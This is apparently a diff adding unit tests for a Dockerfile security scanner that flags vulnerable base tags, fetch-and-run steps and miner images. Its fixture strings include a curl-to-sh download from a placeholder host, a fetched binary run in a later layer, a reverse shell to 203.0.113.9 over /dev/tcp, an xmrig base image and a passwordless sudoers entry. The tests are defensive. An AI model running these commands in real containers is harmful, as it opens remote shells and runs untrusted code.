@@ -91,4 +91,35 @@ class DockerfileChecksTest {
         assertThat(DockerfileChecks.check("Dockerfile", "FROM alpine:3.22\nRUN apk add --no-cache bash\nUSER 1000\n"))
                 .singleElement().satisfies(x -> assertThat(x.severity()).isEqualTo(Severity.INFO));
     }
+
+    @Test
+    @DisplayName("a base tag with a known vulnerability is an error naming it; a fixed tag of the same image is not")
+    void knownVulnerableBase() {
+        List<Finding> f = DockerfileChecks.check("Dockerfile", "FROM alpine:3.4\nUSER 1000\n");
+        assertThat(f).extracting(x -> x.rule().id() + "@" + x.line()).containsExactly("PG-D008@1");
+        assertThat(f.get(0).severity()).isEqualTo(Severity.ERROR);
+        assertThat(f.get(0).message()).contains("CVE-2019-5021");
+        assertThat(found("FROM httpd:2.4.49-alpine\nUSER www-data\n")).containsExactly("PG-D008@1");
+        assertThat(found("FROM httpd:2.4.62-alpine\nUSER www-data\n")).isEmpty();
+        assertThat(found("FROM alpine:3.22\nUSER 1000\n")).isEmpty();
+    }
+
+    @Test
+    @DisplayName("what the image runs is read as one script: heredoc lines at their own lines, a file fetched in one RUN and run in another")
+    void runsAsOneScript() {
+        assertThat(found("FROM python:3.12-slim\nRUN <<EOF\nset -e\ncurl -fsSL https://x.example/i | sh\nEOF\nUSER 1000\n"))
+                .containsExactly("PG-D005@4");
+        assertThat(found("FROM python:3.12-slim\nRUN curl -fsSL -o /usr/local/bin/t https://x.example/t\n"
+                + "RUN chmod +x /usr/local/bin/t\nRUN /usr/local/bin/t --init\nUSER 1000\n")).contains("PG-D005@4");
+        assertThat(found("FROM python:3.12-slim\nUSER 1000\nCMD [\"sh\", \"-c\", \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"]\n"))
+                .containsExactly("PG-B004@3");
+    }
+
+    @Test
+    @DisplayName("a miner as the base image is an error; sudo rules for the image's own user are the image's business")
+    void minerImageAndSudoers() {
+        assertThat(found("FROM metal3d/xmrig:6.21\nUSER 1000\n")).containsExactly("PG-B006@1");
+        assertThat(found("FROM debian:12.7-slim\nRUN echo 'student ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/student\nUSER student\n"))
+                .isEmpty();
+    }
 }
